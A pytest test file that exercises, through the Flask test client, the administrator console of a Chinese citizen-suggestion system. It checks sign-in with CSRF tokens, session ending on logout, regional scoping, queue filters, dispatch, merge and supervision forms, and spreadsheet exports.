"""The console's dashboard, suggestion queue, item page, actions and .xlsx exports, through the Flask test client.

Administrators sign in by posting the login form with the CSRF token scraped from the page, exactly as a
browser does; every action posts the token its page carried.
"""
import html
import io
import json
import re
from datetime import timedelta
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from flask import g, has_app_context
from itsdangerous import TimestampSigner, URLSafeTimedSerializer
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select, text, update

from backend.db_types import utcnow
from backend.audit.models import AuditEvent
from backend.extensions import db
from backend.points import ledger
from backend.suggestions.models import Suggestion

from .factories import screen
from .test_suggestions import file, step, world  # noqa: F401  (fixture)
from .test_web_pages import config_override  # noqa: F401  (fixture)

TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')


def csrf_token(client, path):
    # The factory fixture keeps one app context open for the whole test, so ``g`` outlives a request here
    # (never in a server): drop flask-wtf's per-request token cache, or another client's token would show.
    if has_app_context():
        g.pop("csrf_token", None)
    page = client.get(path)
    assert page.status_code == 200, page.status_code
    match = TOKEN.search(page.get_data(as_text=True))
    assert match, f"no CSRF token on {path}"
    return match.group(1)


def console_login(app, username, password="password123"):
    client = app.test_client()
    response = client.post(
        "/console/login",
        data={"username": username, "password": password, "csrf_token": csrf_token(client, "/console/login")},
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    return client


def post_form(client, path, data, page=None):
    """Post a console form with the token from the page that shows it (the item page by default)."""
    token = csrf_token(client, page or path.rsplit("/", 1)[0])
    return client.post(path, data={"csrf_token": token, **data})


def flashes(response):
    return re.findall(r'<p class="flash[^"]*" role="status">([^<]*)</p>', response.get_data(as_text=True))


def refusal(response):
    """Why a step was refused: the item's page comes back (no redirect) with the reason in the refused
    form, or at the top of the page when the item no longer offers that form."""
    assert response.status_code in (403, 409, 422), response.status_code
    in_form = re.findall(r'<p class="flash flash-error" role="alert"[^>]*>([^<]*)</p>', response.get_data(as_text=True))
    return in_form + flashes(response)


def item_json(client, headers, item_id):
    return client.get(f"/api/v1/suggestions/{item_id}", headers=headers).json


@pytest.fixture
def admin(app, world):  # noqa: F811
    return console_login(app, "chengbei")


@pytest.fixture
def pending(client, world):  # noqa: F811
    response = file(client, world["citizen"], world["station_code"], content="城北菜市场门口积水严重，雨天无法通行。")
    assert response.status_code == 201
    return response.json


# --- signing in, the dashboard ------------------------------------------------------------------


def test_console_pages_need_a_signed_in_administrator(client, pending):
    for path in ("/console/", "/console/suggestions", f"/console/suggestions/{pending['id']}",
                 "/console/suggestions/export.xlsx", "/console/stats/export.xlsx", "/console/leaderboard/export.xlsx"):
        response = client.get(path)
        assert response.status_code == 302 and "/console/login" in response.headers["Location"], path


def test_signing_out_ends_the_session_for_every_copy_of_its_cookie(app, client, world):  # noqa: F811
    """退出 on a shared office computer: a copy of the session cookie taken before (another browser
    profile, a proxy's log) no longer opens the console, nor does the account's API token."""
    admin = console_login(app, "chengbei")
    copied = app.test_client()
    copied.set_cookie("session", admin.get_cookie("session").value)
    assert copied.get("/console/").status_code == 200

    signed_out = admin.post("/console/logout", data={"csrf_token": csrf_token(admin, "/console/")})
    assert signed_out.status_code == 302 and signed_out.headers["Location"].endswith("/console/login")
    assert flashes(admin.get(signed_out.headers["Location"])) == ["您已退出登录，此账号在其他浏览器和设备上的登录也已失效。"]
    for browser in (admin, copied):
        page = browser.get("/console/")
        assert page.status_code == 302 and "/console/login" in page.headers["Location"]
    assert client.get("/api/v1/me", headers=world["admin"]).status_code == 401
    assert console_login(app, "chengbei").get("/console/").status_code == 200  # signing in again works


def test_pages_and_exports_holding_citizens_details_are_never_kept_by_the_browser(app, client, world):  # noqa: F811
    """退出 on a shared office computer, then 后退 or the browser's cache on disk: the item page with the
    citizen's phone number, the queue and the exported list must not come back from it. Every console
    answer says ``no-store``; only the photos and posters, addressed by a key, may be kept privately."""
    item = file(client, world["citizen"], world["station_code"], contact_phone="13912345678").json
    admin = console_login(app, "chengbei")
    for path in (f"/console/suggestions/{item['id']}", "/console/suggestions", "/console/", "/console/login",
                 "/console/suggestions/export.xlsx", "/console/stats/export.xlsx", "/console/appointments"):
        answer = admin.get(path)
        assert answer.status_code == 200, path
        assert "no-store" in answer.cache_control, (path, answer.headers.get("Cache-Control"))
    page = admin.get(f"/console/suggestions/{item['id']}").get_data(as_text=True)
    assert "13912345678" in page
    photo_page = admin.get("/console/deputies/{}/qr.png".format(world["zhang"].id))
    assert photo_page.status_code == 200 and photo_page.cache_control.private  # a picture of a code, kept as it was
    refused = admin.post("/console/logout", data={})
    assert refused.status_code == 400 and "no-store" in refused.cache_control


def test_dashboard_shows_the_scope_in_numbers_and_chart_data(app, client, world, pending, factory):  # noqa: F811
    file(client, world["citizen"], world["deputy_code"], content="路口红绿灯时间太短，老人过马路来不及。")
    with app.app_context():
        ledger.credit(world["zhang"].id, "suggestion_closed", "suggestion", pending["id"], "测试积分")
        db.session.commit()
    admin = console_login(app, "chengbei")
    page = admin.get("/console/")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "工作台" in html and "城北联络站" in html
    for canvas in ("chart-status", "chart-category", "chart-trend", "chart-leaderboard"):
        assert f'id="{canvas}"' in html
    scripts = re.findall(r'<script[^>]*src="([^"]+)"', html)
    assert "/static/vendor/chart-4.6.1.umd.min.js" in [src.split("?v=")[0] for src in scripts]
    assert all(src.startswith("/static/") for src in scripts)
    data = json.loads(re.search(r'<script type="application/json" id="dashboard-data">(.*?)</script>', html, re.S).group(1))
    assert data["total"] == 2 and data["pending"] == 1
    assert {s["status"]: s["count"] for s in data["by_status"]}["assigned"] == 1
    assert data["by_category"] == [{"category": "城市管理", "count": 2}]
    assert len(data["trend"]) == 12 and data["trend"][-1]["count"] == 2
    # 履职积分前十名: the board's top ten, 李娜 at 0 with no point yet this year.
    assert [(r["rank"], r["name"], r["points"]) for r in data["leaderboard"]] == [(1, "张伟", 3), (2, "李娜", 0)]

    # Another region's administrator sees none of it.
    other = console_login(app, "changsha")
    other_data = json.loads(re.search(
        r'id="dashboard-data">(.*?)</script>', other.get("/console/").get_data(as_text=True), re.S
    ).group(1))
    assert other_data["total"] == 0 and other_data["leaderboard"] == []
    assert sum(w["count"] for w in other_data["trend"]) == 0


def test_the_dashboards_total_names_the_open_items_as_the_queue_does(client, admin, world, pending):  # noqa: F811
    """建议总数 said "办理中 2 件" for every item still open, waiting ones included, while the chart beside
    it and the queue call only the accepted items 办理中 (here none): 未办结, as the queue's filter says."""
    file(client, world["citizen"], world["deputy_code"], content="路口红绿灯时间太短，老人过马路来不及。")
    page = admin.get("/console/").get_data(as_text=True)
    total = re.search(r'<span class="kpi-label">建议总数</span><strong>(\d+)</strong><span class="kpi-note">([^<]*)</span>', page)
    assert total.groups() == ("2", "未办结 2 件")
    listed = admin.get("/console/suggestions?status=accepted").get_data(as_text=True)
    assert "没有符合条件的建议。" in listed
    # The statistics export's column of the same count, per station.
    by_station = list(_workbook(admin.get("/console/stats/export.xlsx"))["按联络站"].values)
    assert by_station[:2] == [("联络站", "建议数", "未办结", "已办结", "超期", "督办"), ("城北联络站", 2, 2, 0, 0, 0)]


# --- scope -------------------------------------------------------------------------------------


def test_an_item_outside_the_scope_is_a_404_page(app, client, world, pending):  # noqa: F811
    other = console_login(app, "changsha")
    page = other.get(f"/console/suggestions/{pending['id']}")
    assert page.status_code == 404
    assert page.mimetype == "text/html"
    assert "建议不存在，或不在您的管理范围内。" in page.get_data(as_text=True)
    assert other.get("/console/suggestions/2147483648").status_code in (404,)
    assert pending["number"] not in other.get("/console/suggestions").get_data(as_text=True)
    # Its own forms cannot reach it either: a token from its own page, a 404, nothing changes.
    token = csrf_token(other, "/console/suggestions")
    response = other.post(
        f"/console/suggestions/{pending['id']}/dispatch", data={"csrf_token": token, "deputy_id": world["zhang"].id}
    )
    assert response.status_code == 404
    assert item_json(client, world["admin"], pending["id"])["status"] == "pending"


# --- the queue -----------------------------------------------------------------------------------


def test_queue_filters_and_pages(app, client, admin, world, pending):  # noqa: F811
    assigned = file(client, world["citizen"], world["deputy_code"], category="道路交通", content="公交站台没有遮雨棚。").json
    held = file(client, world["citizen"], world["station_code"], content="违禁测试 内容").json
    screen(app)
    with app.app_context():
        item = db.session.get(Suggestion, assigned["id"])
        item.overdue, item.supervised = True, True
        old = db.session.get(Suggestion, pending["id"])
        old.created_dt = utcnow() - timedelta(days=40)
        db.session.commit()

    def numbers(query=""):
        return set(re.findall(r">(MSB-\d{8}-\d{6})</a>", admin.get("/console/suggestions" + query).get_data(as_text=True)))

    assert numbers() == {pending["number"], assigned["number"], held["number"]}
    assert numbers("?status=pending") == {pending["number"], held["number"]}
    assert numbers("?overdue=1") == {assigned["number"]}
    assert numbers("?supervised=1") == {assigned["number"]}
    assert numbers("?held=1") == {held["number"]}
    assert numbers("?category=道路交通") == {assigned["number"]}
    assert numbers(f"?deputy_id={world['zhang'].id}") == {assigned["number"]}
    assert numbers(f"?station_id={world['station'].id}&status=pending") == {pending["number"], held["number"]}
    recent = (utcnow() - timedelta(days=7)).date().isoformat()
    assert pending["number"] not in numbers(f"?from={recent}")
    assert numbers(f"?to={(utcnow() - timedelta(days=30)).date().isoformat()}") == {pending["number"]}
    # The two dates typed the wrong way round: the days between them, shown in order, not an empty queue.
    long_ago, ahead = ((utcnow() + timedelta(days=days)).date().isoformat() for days in (-50, 1))
    swapped = admin.get(f"/console/suggestions?from={ahead}&to={long_ago}").get_data(as_text=True)
    assert f'name="from" value="{long_ago}"' in swapped and f'name="to" value="{ahead}"' in swapped
    assert numbers(f"?from={ahead}&to={long_ago}") == numbers()
    assert numbers("?q=遮雨棚") == {assigned["number"]}
    assert numbers(f"?q={pending['number']}") == {pending["number"]}
    # Nonsense filters are ignored, not a 500.
    assert admin.get("/console/suggestions?status=nope&station_id=abc&from=2025-13-01&page=-3").status_code == 200

    for n in range(22):
        file(client, world["citizen"], world["station_code"], content=f"第 {n} 条测试建议：楼道灯不亮。")
    first = admin.get("/console/suggestions?status=pending")
    assert "上一页" not in first.get_data(as_text=True)
    assert len(re.findall(r'<td class="nowrap"><a href="/console/suggestions/\d+">', first.get_data(as_text=True))) == 20
    second = admin.get(_link(first, "下一页")).get_data(as_text=True)
    assert len(re.findall(r'<td class="nowrap"><a href="/console/suggestions/\d+">', second)) == 4
    assert "下一页" not in second and "上一页" in second


def test_the_dashboards_figures_lead_to_the_items_they_count(client, admin, world, pending):  # noqa: F811
    """督办中 counts the supervised items still to be handled; its link shows those, not also the ones
    supervised once and since finished (the queue had no 未办结 filter: the list and the figure disagreed)."""
    finished = file(client, world["stranger"], world["station_code"], content="菜市场门口积水，和别人反映的是同一处。").json
    for item in (pending, finished):  # 督办 presses the deputy it was given to
        step(client, world["admin"], item["id"], "dispatch", deputy_id=world["zhang"].id)
        post_form(admin, f"/console/suggestions/{item['id']}/supervise", {"note": "请尽快办理"})
    post_form(admin, f"/console/suggestions/{finished['id']}/reject", {"reason": "重复提交"})

    dashboard = admin.get("/console/").get_data(as_text=True)
    card = re.search(r'<a class="kpi" href="([^"]+)"><span class="kpi-label">督办中</span><strong>(\d+)</strong>', dashboard)
    assert card.group(2) == "1"
    listed = admin.get(html.unescape(card.group(1))).get_data(as_text=True)
    assert re.findall(r">(MSB-\d{8}-\d{6})</a>", listed) == [pending["number"]]
    assert "共 1 件（已筛选）" in listed
    assert re.search(r'<input type="checkbox" name="open" value="1" checked> 未办结', listed)

    # 未办结 as a filter of its own, among the quick ones; everything supervised is still one tick away.
    quick = re.search(r'<a href="([^"]+)" class="[^"]*">未办结</a>', listed).group(1)
    assert re.findall(r">(MSB-\d{8}-\d{6})</a>", admin.get(html.unescape(quick)).get_data(as_text=True)) == [pending["number"]]
    every = admin.get("/console/suggestions?supervised=1").get_data(as_text=True)
    assert set(re.findall(r">(MSB-\d{8}-\d{6})</a>", every)) == {pending["number"], finished["number"]}


def test_the_item_page_leads_back_to_the_queue_as_it_was_left(client, admin, world, pending):  # noqa: F811
    """Working down 待分派, page 2: the item page's 建议办理 and 返回列表 lead back to 待分派, page 2, also
    after a step taken there (they led to the whole queue, page 1: the filter was to be set again for each item)."""
    for n in range(22):
        file(client, world["citizen"], world["station_code"], content=f"第 {n} 条测试建议：楼道灯不亮。")
    second_page = _link(admin.get("/console/suggestions?status=pending&category=城市管理"), "下一页")
    queue = admin.get(second_page).get_data(as_text=True)
    first = re.search(r'<td class="nowrap"><a href="/console/suggestions/(\d+)">', queue).group(1)

    def links_back(page):
        crumb = re.search(r'<p class="crumbs"><a href="([^"]+)">建议办理</a>', page).group(1)
        button = re.search(r'<a class="button secondary" href="([^"]+)" id="back-to-queue">返回列表</a>', page).group(1)
        assert crumb == button
        parts = urlsplit(html.unescape(crumb))
        return parts.path, parse_qs(parts.query)

    turned = parse_qs(urlsplit(second_page).query)
    assert set(turned) == {"status", "category", "after", "n"}
    # The way back leaves out the count the page turned carried (n): the queue come back to counts again.
    left = ("/console/suggestions", {key: value for key, value in turned.items() if key != "n"})
    assert links_back(admin.get(f"/console/suggestions/{first}").get_data(as_text=True)) == left
    dispatched = post_form(admin, f"/console/suggestions/{first}/dispatch", {"deputy_id": world["zhang"].id})
    after = admin.get(dispatched.headers["Location"]).get_data(as_text=True)
    assert "已分派，等待代表接单。" in after and links_back(after) == left

    # The whole queue, page 1, once that is where the administrator was.
    admin.get("/console/suggestions")
    assert links_back(admin.get(f"/console/suggestions/{first}").get_data(as_text=True)) == ("/console/suggestions", {})


# --- the item page and its actions --------------------------------------------------------------


def test_dispatch_through_the_form_moves_the_item_and_writes_the_timeline(client, admin, world, pending):  # noqa: F811
    page = admin.get(f"/console/suggestions/{pending['id']}").get_data(as_text=True)
    assert "城北菜市场门口积水严重" in page and "本站代表" in page and "张伟" in page and "李娜" in page
    response = post_form(
        admin, f"/console/suggestions/{pending['id']}/dispatch", {"deputy_id": world["zhang"].id, "note": "请张代表尽快处理"}
    )
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/console/suggestions/{pending['id']}")
    after = admin.get(response.headers["Location"])
    assert flashes(after) == ["已分派，等待代表接单。"]
    assert "待接单" in after.get_data(as_text=True)

    item = item_json(client, world["admin"], pending["id"])
    assert item["status"] == "assigned" and item["deputy"]["name"] == "张伟"
    line = item["timeline"][-1]
    assert (line["action"], line["note"], line["actor_name"], line["actor_role"]) == (
        "dispatch", "请张代表尽快处理", "chengbei", "station_admin"
    )
    # The deputy can now accept it through the API, as for any other dispatch.
    assert step(client, world["zhang_h"], pending["id"], "accept").json["status"] == "accepted"


def test_the_timeline_names_whom_an_item_was_dispatched_and_forwarded_to(client, admin, world, pending):  # noqa: F811
    """台账 of an item dispatched to 张伟, then 改派 to 李娜: both lines read only 分派, the same, and a
    forwarding did not say where to. Each line now says to whom, or to which department."""
    base = f"/console/suggestions/{pending['id']}"
    post_form(admin, f"{base}/dispatch", {"deputy_id": world["zhang"].id, "note": "请张代表跟进"})
    post_form(admin, f"{base}/dispatch", {"deputy_id": world["li"].id})
    step(client, world["li_h"], pending["id"], "accept")
    post_form(admin, f"{base}/forward", {"target": "department", "department": "鹤城区住建局",
                                         "work_order_no": "ZJ001", "note": "请住建局维修"})
    page = admin.get(base).get_data(as_text=True)
    timeline = re.search(r'<ol class="timeline" id="timeline">(.*?)</ol>', page, re.S).group(1)
    assert re.findall(r"<strong>([^<]*)</strong>", timeline) == [
        "提交建议", "分派给 张伟", "改派给 李娜", "接单", "转办至 鹤城区住建局（工单 ZJ001）"]


def test_the_forms_say_which_words_the_citizen_reads(app, client, admin, world, pending):  # noqa: F811
    """Every note an administrator writes on a step goes into the 台账 the citizen who filed the item
    reads (分派说明, 督办意见, 不予受理理由…), yet the forms did not say so, as 约见's 婉拒理由 does: a
    remark meant for the deputy reached the citizen."""
    base = f"/console/suggestions/{pending['id']}"
    post_form(admin, f"{base}/dispatch", {"deputy_id": world["zhang"].id, "note": "请张代表跟进"})
    assert item_json(client, world["citizen"], pending["id"])["timeline"][-1]["note"] == "请张代表跟进"

    def notes(path):
        return re.findall(r"<label>([^<]*)<textarea", admin.get(path).get_data(as_text=True))

    assert notes(base) == ["分派说明（可选，群众可见）", "督办意见（群众可见）", "理由（群众可见）"]
    step(client, world["zhang_h"], pending["id"], "accept")
    assert notes(base) == ["转办说明（群众可见）", "督办意见（群众可见）"]
    post_form(admin, f"{base}/forward", {"target": "hotline_12345", "note": "请热线处理"})
    assert notes(base) == ["反馈内容（群众可见）", "督办意见（群众可见）"]

    held = file(client, world["citizen"], world["station_code"], content="违禁测试 内容").json
    screen(app)
    assert notes(f"/console/suggestions/{held['id']}")[:2] == ["审核意见（可选，群众可见）", "不予受理理由（群众可见）"]


def test_refused_dispatches_flash_a_chinese_message_and_change_nothing(client, admin, world, factory, pending):  # noqa: F811
    stranger = factory.deputy(world["tree"]["yl"], "岳麓代表", phone="13800000099")
    url = f"/console/suggestions/{pending['id']}/dispatch"

    for unusable in ("", "²", "7" * 5000):  # "²" passes str.isdigit(); int() refuses it and 5000 digits
        no_choice = post_form(admin, url, {"deputy_id": unusable})
        assert refusal(no_choice) == ["请选择要分派的代表。"]

    outside = post_form(admin, url, {"deputy_id": stranger.id})
    assert outside.status_code == 422
    assert refusal(outside) == ["代表不存在、已离任或不在您的管理范围内。"]
    assert item_json(client, world["admin"], pending["id"])["status"] == "pending"

    assert post_form(admin, f"/console/suggestions/{pending['id']}/reject", {"reason": "重复提交"}).status_code == 302
    invalid = post_form(admin, url, {"deputy_id": world["zhang"].id})
    assert invalid.status_code == 409
    # No 分派 form any more: the reason is said at the top of the page.
    assert flashes(invalid) == ["当前状态为“不予受理”，不能分派。"]
    item = item_json(client, world["admin"], pending["id"])
    assert item["status"] == "rejected" and [e["action"] for e in item["timeline"]] == ["file", "reject"]


def test_the_merge_form_takes_the_surviving_items_number_as_a_citizen_reads_it(app, client, admin, world, factory, pending):  # noqa: F811
    """合并到: the number whole, however it is typed, or its last digits (at least 3) when one item of the
    administrator's own ends with them — the item being merged aside; several say how many."""
    def filed(code, number):
        item = file(client, world["stranger"], code, content=f"同一处积水，再次反映（{number}）。").json
        with app.app_context():
            db.session.execute(update(Suggestion).where(Suggestion.id == item["id"]).values(number=number))
            db.session.commit()
        return item["id"]

    elsewhere = factory.station(world["tree"]["cs"], "岳麓联络站")
    survivor = filed(world["station_code"], "MSB-20261101-001777")
    filed(world["station_code"], "MSB-20261102-000777")
    filed(elsewhere.qr_code, "MSB-20261103-002777")  # another region's: neither found nor counted
    duplicate = filed(world["station_code"], "MSB-20261104-003778")
    filed(world["station_code"], "MSB-20261105-004778")
    base = f"/console/suggestions/{duplicate}"
    not_found = "合并目标不存在或不在您的管理范围内。"
    for typed, message in (
        ("777", "编号末尾为 777 的建议有 2 条，请多填几位或填写完整编号。"),
        ("2777", not_found),
        ("MSB-20261103-002777", not_found),
        ("20261103002777", not_found),
        ("MSB-20261104-003778", "不能合并到自身。"),
        ("3778", "不能合并到自身。"),  # its own tail only: not "not found", which sends one looking for it
        ("MSB-20260101-999999", not_found),
        ("12", "请填写目标建议的完整编号（如 MSB-20261122-000123），或编号末尾至少 3 位数字。"),
        ("MSB-2026", "请填写目标建议的完整编号（如 MSB-20261122-000123），或编号末尾至少 3 位数字。"),
        ("积水", "请填写目标建议的完整编号（如 MSB-20261122-000123），或编号末尾至少 3 位数字。"),
    ):
        assert refusal(post_form(admin, f"{base}/merge", {"into": typed})) == [message], typed
    assert [e["action"] for e in item_json(client, world["admin"], duplicate)["timeline"]] == ["file"]

    # "778" is this item's and one other's tail: the other is meant.
    merged = post_form(admin, f"{base}/merge", {"into": "778"})
    assert flashes(admin.get(merged.headers["Location"])) == ["已合并到目标建议，群众将改为关注该建议。"]
    assert item_json(client, world["admin"], duplicate)["merged_into"] == duplicate + 1
    # The whole number in any spelling, and a unique tail.
    for typed in ("msb 20261101 001777", "ＭＳＢ－２０２６１１０１－００１７７７", "20261101001777", "1777", " 001777 "):
        again = filed(world["station_code"], f"MSB-20261106-{survivor + 5000:06d}")
        merged = post_form(admin, f"/console/suggestions/{again}/merge", {"into": typed})
        assert merged.status_code == 302, (typed, refusal(merged))
        assert item_json(client, world["admin"], again)["merged_into"] == survivor, typed
        with app.app_context():  # out of the way of the next spelling's tail
            db.session.execute(update(Suggestion).where(Suggestion.id == again).values(number=f"MSB-20261107-{again:06d}"))
            db.session.commit()


def test_the_merge_form_looks_the_number_up_before_it_asks(client, admin, world, pending):  # noqa: F811
    """Before 合并 asks to be sure, the page looks the typed number up as the merge itself will read it:
    the item found (its number, words and status) to name in the question, or the reason none is."""
    other = file(client, world["stranger"], world["station_code"], content="菜市场门口积水，和别人反映的是同一处。").json
    lookup = f"/console/suggestions/{other['id']}/merge-target"
    found = admin.get(lookup, query_string={"into": f" {pending['number'][-6:]} "})
    assert found.status_code == 200
    assert found.json == {"number": pending["number"], "excerpt": "城北菜市场门口积水严重，雨天无法通行。",
                          "status_label": "待分派"}
    for typed, message in (("MSB-00000000-999999", "合并目标不存在或不在您的管理范围内。"),
                           (other["number"], "不能合并到自身。"),
                           ("12", "请填写目标建议的完整编号（如 MSB-20261122-000123），或编号末尾至少 3 位数字。"),
                           ("7" * 5000, "目标建议编号不能超过 32 个字。")):
        refused = admin.get(lookup, query_string={"into": typed})
        assert (refused.status_code, refused.json.get("message")) == (422, message), (typed, refused.json)
    unknown = admin.get("/console/suggestions/99999999/merge-target?into=123")
    assert (unknown.status_code, unknown.json["message"]) == (404, "建议不存在，或不在您的管理范围内。")
    assert [e["action"] for e in item_json(client, world["admin"], other["id"])["timeline"]] == ["file"]


def test_reject_supervise_and_merge_through_forms(client, admin, world, pending):  # noqa: F811
    other = file(client, world["stranger"], world["station_code"], content="菜市场门口积水，和别人反映的是同一处。").json
    base = f"/console/suggestions/{other['id']}"

    blank = post_form(admin, f"{base}/reject", {"reason": "  "})
    assert refusal(blank) == ["请填写不予受理的理由。"]
    for wrong_target, message in (("MSB-00000000-999999", "合并目标不存在或不在您的管理范围内。"),
                                  ("²", "请填写目标建议的完整编号（如 MSB-20261122-000123），或编号末尾至少 3 位数字。"),
                                  ("7" * 5000, "目标建议编号不能超过 32 个字。")):
        wrong = post_form(admin, f"{base}/merge", {"into": wrong_target})
        assert refusal(wrong) == [message]
    itself = post_form(admin, f"{base}/merge", {"into": other["number"]})
    assert refusal(itself) == ["不能合并到自身。"]

    merged = post_form(admin, f"{base}/merge", {"into": pending["number"]})
    # The surviving item's citizen did not consent to publication: the administrator is told that the
    # duplicate's citizen, who follows it now, reads its progress and answer but not its words.
    assert flashes(admin.get(merged.headers["Location"])) == [
        "已合并到目标建议，群众将改为关注该建议。目标建议的提出人未同意公开，"
        "被合并建议的群众可以看到其办理进展和答复，看不到其建议内容、照片和位置。"]
    assert item_json(client, world["admin"], other["id"])["merged_into"] == pending["id"]
    followed = client.get(f"/api/v1/suggestions/{pending['id']}", headers=world["stranger"])
    assert (followed.status_code, followed.json["content"]) == (200, None)
    # Into an item consented to publication, its new follower reads it.
    consented = file(client, world["citizen"], world["station_code"], content="菜市场北门积水。", public_consent=True).json
    third = file(client, world["stranger"], world["station_code"], content="菜市场北门也积水。").json
    merged = post_form(admin, f"/console/suggestions/{third['id']}/merge", {"into": consented["number"]})
    assert flashes(admin.get(merged.headers["Location"])) == ["已合并到目标建议，群众将改为关注该建议。"]
    assert client.get(f"/api/v1/suggestions/{consented['id']}", headers=world["stranger"]).status_code == 200

    # 待分派: nobody to supervise yet — no 督办 form beside 分派, and the API refuses it in words.
    page = admin.get(f"/console/suggestions/{pending['id']}").get_data(as_text=True)
    assert "<h2>分派给代表</h2>" in page and "<h2>督办</h2>" not in page and "督办意见" not in page
    early = client.post(f"/api/v1/suggestions/{pending['id']}/supervise", json={"note": "请于本周内办结"},
                        headers=world["admin"])
    assert (early.status_code, early.json["message"]) == (409, "这条建议还没有分派给代表，请先分派再督办。")
    assert item_json(client, world["admin"], pending["id"])["supervised"] is False

    step(client, world["admin"], pending["id"], "dispatch", deputy_id=world["zhang"].id)
    assert "<h2>督办</h2>" in admin.get(f"/console/suggestions/{pending['id']}").get_data(as_text=True)
    supervised = post_form(admin, f"/console/suggestions/{pending['id']}/supervise", {"note": "请于本周内办结"})
    assert flashes(admin.get(supervised.headers["Location"])) == ["已督办。"]
    item = item_json(client, world["admin"], pending["id"])
    assert item["supervised"] is True
    assert [e["action"] for e in item["timeline"]][-3:] == ["merged_in", "dispatch", "supervise"]

    rejected = post_form(admin, f"/console/suggestions/{pending['id']}/reject", {"reason": "不属于人大代表履职范围"})
    assert flashes(admin.get(rejected.headers["Location"])) == ["已作不予受理处理。"]
    assert item_json(client, world["admin"], pending["id"])["status"] == "rejected"


def test_forward_and_feedback_through_forms_record_work_orders_and_supervision(client, admin, world, pending):  # noqa: F811
    """转办 with a work order number, then the department's answer with the deputy's satisfaction:
    不满意 puts the item under supervision (督办); the item page lists the work orders, the queue's 督办
    filter finds it, the dashboard and the exports count it by department."""
    step(client, world["admin"], pending["id"], "dispatch", deputy_id=world["zhang"].id)
    step(client, world["zhang_h"], pending["id"], "accept")
    base = f"/console/suggestions/{pending['id']}"
    page = admin.get(base).get_data(as_text=True)
    assert 'name="work_order_no"' in page and 'name="department_satisfaction"' not in page

    blank = post_form(admin, f"{base}/forward", {"target": "department", "department": "县住建局", "note": " "})
    assert refusal(blank) == ["请填写转办说明。"]
    too_long = post_form(admin, f"{base}/forward", {"target": "department", "department": "县住建局",
                                                    "work_order_no": "Z" * 51, "note": "请住建局处理"})
    assert refusal(too_long) == ["工单编号不能超过 50 个字。"]
    assert item_json(client, world["admin"], pending["id"])["status"] == "accepted"
    forwarded = post_form(admin, f"{base}/forward", {"target": "department", "department": "县住建局",
                                                     "work_order_no": " ZJ-2026-001 ", "note": "请住建局处理"})
    assert flashes(admin.get(forwarded.headers["Location"])) == ["已转办，等待部门反馈。"]
    page = admin.get(base).get_data(as_text=True)
    assert 'name="department_satisfaction" value="dissatisfied"' in page and 'name="work_order_no"' not in page

    for choice in ({}, {"department_satisfaction": "great"}):
        unanswered = post_form(admin, f"{base}/feedback", {"note": "住建局：下周处理", **choice})
        assert refusal(unanswered) == ["请选择代表对部门办理结果的满意度。"]
    assert item_json(client, world["admin"], pending["id"])["status"] == "forwarded"
    answered = post_form(admin, f"{base}/feedback", {"note": "住建局：下周处理", "department_satisfaction": "dissatisfied"})
    shown = admin.get(answered.headers["Location"])
    assert flashes(shown) == ["已记录部门反馈。代表不满意，已转入督办，请组织现场督办。"]
    after = shown.get_data(as_text=True)
    assert '<span class="tag tag-supervised">督办</span>' in after
    rows = re.findall(r'<tr class="work-order">(.*?)</tr>', after, re.S)
    cells = [[re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)] for row in rows]
    assert [row[:2] + row[4:] for row in cells] == [["县住建局", "ZJ-2026-001", "不满意"]]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", when) for when in cells[0][2:4]), cells  # 转办, 反馈
    assert "代表对县住建局的办理结果不满意，转入督办" in after
    assert re.findall(r">(MSB-\d{8}-\d{6})</a>", admin.get("/console/suggestions?supervised=1").get_data(as_text=True)) \
        == [pending["number"]]

    # The dashboard: the work-order satisfaction rate over the rated work orders, and the department's row.
    dashboard = admin.get("/console/").get_data(as_text=True)
    rate = re.search(r'id="rate-work_order_satisfaction_rate">.*?<strong>([^<]+)</strong>.*?kpi-note">([^<]+)<', dashboard, re.S)
    assert rate.groups() == ("0.0%", "（满意＋基本满意）÷ 代表已评价工单 1")
    department = re.search(r'<tr class="department">(.*?)</tr>', dashboard, re.S).group(1)
    assert re.findall(r"<td>([^<]*)</td>", department) == ["县住建局", "1", "1", "0", "0", "0", "0", "1", "0.0%"]

    # The exports: the queue's work order columns, the statistics' sheet per department.
    queue = list(_workbook(admin.get("/console/suggestions/export.xlsx"))["建议清单"].values)
    columns = [queue[0].index(name) for name in ("转办部门", "工单编号", "代表对部门办理满意度", "督办")]
    assert [queue[1][i] for i in columns] == ["县住建局", "ZJ-2026-001", "不满意", "是"]
    wb = _workbook(admin.get("/console/stats/export.xlsx"))
    summary = {row[0]: row[1] for row in wb["总体指标"].values}
    assert (summary["转办工单数"], summary["已反馈工单数"], summary["已评价工单数"], summary["工单满意率"]) == (1, 1, 1, "0.0%")
    assert list(wb["按承办部门"].values) == [
        ("承办部门", "工单数", "已反馈", "已撤回", "待反馈", "满意", "基本满意", "不满意", "工单满意率"),
        ("县住建局", 1, 1, 0, 0, 0, 0, 1, "0.0%")]

    # Forwarded again, to the hotline: no department is asked for, and the deputy's satisfaction is recorded.
    post_form(admin, f"{base}/forward", {"target": "hotline_12345", "department": "忽略", "note": "转 12345 热线督办"})
    post_form(admin, f"{base}/feedback", {"note": "热线：已修复", "department_satisfaction": "satisfied"})
    item = item_json(client, world["admin"], pending["id"])
    assert [(w["department"], w["work_order_no"], w["satisfaction"]) for w in item["work_orders"]] == [
        ("县住建局", "ZJ-2026-001", "dissatisfied"), ("12345 热线人大代表通道", None, "satisfied")]
    assert [(e["action"], e["actor_role"]) for e in item["timeline"][-5:]] == [
        ("forward", "station_admin"), ("feedback", "station_admin"), ("supervise", "system"),
        ("forward", "station_admin"), ("feedback", "station_admin")]


def form_fields(client, path, action):
    """The hidden fields of the form posting to ``action`` on the page at ``path``, as the browser sends them."""
    csrf_token(client, "/console/")  # forgets a token cached for another client (see csrf_token)
    page = client.get(path).get_data(as_text=True)
    form = re.search(rf'<form[^>]*action="{re.escape(action)}"[^>]*>(.*?)</form>', page, re.S)
    assert form, f"no form posting to {action}"
    return dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', form.group(1)))


